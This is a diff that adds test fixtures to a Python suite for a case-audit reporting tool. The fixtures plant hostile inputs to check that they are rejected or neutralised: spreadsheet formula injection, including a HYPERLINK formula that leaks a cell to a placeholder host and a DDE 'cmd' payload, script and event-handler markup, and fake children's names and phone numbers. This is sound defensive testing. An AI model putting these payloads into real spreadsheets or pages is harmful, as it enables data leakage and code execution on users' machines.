@@ -307,6 +307,181 @@ def header_repeated(folder: Path) -> Path:
     return write_authority(folder, _csv(header, rows[:2] + [header] + rows[2:]))
 
 
+# -- what an information-governance tester types into an export or into la.yaml
+
+# Formula injection (OWASP "CSV injection"): a cell opening with = + - @ is read as a formula by
+# spreadsheets. The team names are accepted (leadership packs show team names); the grade of AU9
+# is not a grade, so its row is rejected and its text reaches rejected_rows.csv (internal only).
+FORMULA_TEAMS = {
+    "AU1": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
+    "AU2": "+SUM(2+2)",
+    "AU3": "-2+3",
+}
+FORMULA_GRADE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def formula_injection(folder: Path) -> Path:
+    header, rows = mini_rows()
+    for r in rows:
+        if r[0] in FORMULA_TEAMS:
+            r[4] = '"' + FORMULA_TEAMS[r[0]].replace('"', '""') + '"'
+    rows[3][5] = '"' + FORMULA_GRADE + '"'
+    return write_authority(folder, _csv(header, rows))
+
+
+# Markup typed into cells: accepted team and service names, and a rejected grade.
+MARKUP_TEAM = "<script>alert(101)</script>"
+MARKUP_SERVICE = "Assessment<img src=x onerror=alert(102)>"
+MARKUP_GRADE = "<b onmouseover=alert(103)>Good</b>"
+
+
+def markup_in_cells(folder: Path) -> Path:
+    header, rows = mini_rows()
+    rows[0][4] = MARKUP_TEAM
+    rows[3][3] = MARKUP_SERVICE
+    rows[1][5] = MARKUP_GRADE
+    return write_authority(folder, _csv(header, rows))
+
+
+# Markup in la.yaml: the authority's name, a domain's label and a theme's label.
+MARKUP_AUTHORITY = "Minitown <script>alert(104)</script>"
+MARKUP_DOMAIN = "Assessment <img src=x onerror=alert(105)>"
+MARKUP_THEME = "Recording <svg onload=alert(106)>"
+
+
+def markup_in_la_yaml(folder: Path) -> Path:
+    path = clean(folder)
+    plant_yaml_markup(path)
+    return path
+
+
+# A child's id, name and phone number typed into a grade cell (rejected, with a suggested fix)
+# and into the optional moderated grade (blanked, with a warning).
+PII_GRADE = "Good - ring Jane Smith on 07700 900123 about C1"
+PII_MODERATED = "C2 Tom Jones 07700 900456"
+PII_WORDS = ("Jane Smith", "07700 900123", "Tom Jones", "07700 900456")
+
+
+def pii_in_free_text(folder: Path) -> Path:
+    header, rows = mini_rows()
+    rows[1][5] = PII_GRADE
+    rows[2][8] = PII_MODERATED
+    return write_authority(folder, _csv(header, rows))
+
+
+def hostile_content(folder: Path) -> Path:
+    """Every planted value above in one authority, for building whole packs.
+
+    Accepted: AU1 (a team named with markup), AU2 and AU3 (teams named like formulas; AU3's
+    optional moderated grade holds a name and phone, so it is blanked with a warning), AU9 (a
+    service named with markup). Rejected, with their typed grades: AU10 (a name and phone), AU11
+    (a formula) and AU12 (markup). The la.yaml carries markup too.
+    """
+    header, rows = mini_rows()
+    rows[0][4] = MARKUP_TEAM
+    rows[1][4] = '"' + FORMULA_TEAMS["AU1"].replace('"', '""') + '"'
+    rows[2][4] = FORMULA_TEAMS["AU2"]
+    rows[2][8] = PII_MODERATED
+    rows[3][3] = MARKUP_SERVICE
+    rejected = [
+        ["AU10", "C10", "10/09/2025", "Assessment", "Assessment Team 1", PII_GRADE],
+        ["AU11", "C11", "11/09/2025", "Assessment", "Assessment Team 1", f'"{FORMULA_GRADE}"'],
+        ["AU12", "C12", "12/09/2025", "Assessment", "Assessment Team 1", MARKUP_GRADE],
+    ]
+    path = write_authority(folder, _csv(header, rows + [r + ["", "", ""] for r in rejected]))
+    plant_yaml_markup(path)
+    return path
+
+
+def plant_yaml_markup(path: Path) -> None:
+    """Markup in the authority's name, the assessment domain's label and a theme's label."""
+    text = path.read_text(encoding="utf-8")
+    text = text.replace("name: Minitown (test)", f'name: "{MARKUP_AUTHORITY}"')
+    text = text.replace(
+        "{id: assessment, label: Assessment}", f'{{id: assessment, label: "{MARKUP_DOMAIN}"}}'
+    )
+    text = text.replace("recording: {label: Recording,", f'recording: {{label: "{MARKUP_THEME}",')
+    assert MARKUP_AUTHORITY in text and MARKUP_DOMAIN in text and MARKUP_THEME in text
+    path.write_text(text, encoding="utf-8")
+
+
+# -- formats and layouts
+
+
+def bom_semicolons(folder: Path) -> Path:
+    header, rows = mini_rows()
+    return write_authority(folder, _csv(header, rows, sep=";").encode("utf-8-sig"))
+
+
+def crlf_line_endings(folder: Path) -> Path:
+    header, rows = mini_rows()
+    rows[0][4] = '"Assessment\r\nTeam 1"'  # a CRLF inside a quoted cell of a CRLF file
+    return write_authority(
+        folder, _csv(header, rows).replace("\n", "\r\n").replace("\r\r\n", "\r\n")
+    )
+
+
+FORMULA_SHEET = "=SUM(1+1)"
+
+
+def formula_sheet_name(folder: Path) -> Path:
+    header, rows = mini_rows()
+    sheets = {"Cover": [["Case audit export"]], FORMULA_SHEET: [header, *rows]}
+    return write_authority(folder, _workbook(folder, sheets), name="audits.xlsx")
+
+
+def duplicate_after_normalisation(folder: Path) -> Path:
+    header, rows = mini_rows()
+    return write_authority(folder, _csv(header + ["child_id "], [r + ["C99"] for r in rows]))
+
+
+def mixed_date_formats(folder: Path) -> Path:
+    header, rows = mini_rows()
+    rows[1][2] = "2025-07-02"  # ISO
+    rows[2][2] = "15 Jul 2025"  # day, short month, year
+    rows[3][2] = "08.09.2025"  # dotted
+    return write_authority(folder, _csv(header, rows))
+
+
+def month_first_date(folder: Path) -> Path:
+    header, rows = mini_rows()
+    rows[2][2] = "07/15/2025"  # 15 July written month-first (as an American export would)
+    return write_authority(folder, _csv(header, rows))
+
+
+def trailing_empty_rows(folder: Path) -> Path:
+    header, rows = mini_rows()
+    return write_authority(folder, _csv(header, rows) + ",,,,,,,,\n,,,,,,,,\n\n\n")
+
+
+# -- numbers: a KPI scorecard beside the audits
+KPI_HEADER = "Indicator;Month;Value;Numerator;Denominator\n"
+
+
+def _with_kpis(folder: Path, body: str) -> Path:
+    path = clean(folder)
+    (folder / "kpis.csv").write_text(KPI_HEADER + body, encoding="utf-8")
+    text = path.read_text(encoding="utf-8").replace(
+        "sources:\n", "sources:\n  kpis:\n    file: kpis.csv\n"
+    )
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+def thousands_separators(folder: Path) -> Path:
+    # caseload_average is a declared KPI; its numbers carry thousands separators (the commas sit
+    # every three digits), which are read as plain numbers
+    return _with_kpis(
+        folder,
+        "caseload_average;2025-07;1,234.5;12,345;10\ncaseload_average;2025-08;17;1,700;100\n",
+    )
+
+
+def decimal_commas(folder: Path) -> Path:
+    # a semicolon-separated export from a continental locale writes 17.5 as "17,5"
+    return _with_kpis(folder, "caseload_average;2025-07;17,5;;\ncaseload_average;2025-08;18;;\n")
+
+
 def _yaml_case(folder: Path, extra: str) -> Path:
     path = clean(folder)
     path.write_text(path.read_text(encoding="utf-8") + extra, encoding="utf-8")
@@ -364,6 +539,20 @@ CASES: dict[str, Callable[[Path], Path]] = {
         yaml_deeply_nested,
         yaml_huge,
         yaml_alias_bomb,
+        formula_injection,
+        markup_in_cells,
+        markup_in_la_yaml,
+        pii_in_free_text,
+        hostile_content,
+        bom_semicolons,
+        crlf_line_endings,
+        formula_sheet_name,
+        duplicate_after_normalisation,
+        mixed_date_formats,
+        month_first_date,
+        trailing_empty_rows,
+        thousands_separators,
+        decimal_commas,
     )
 }
 
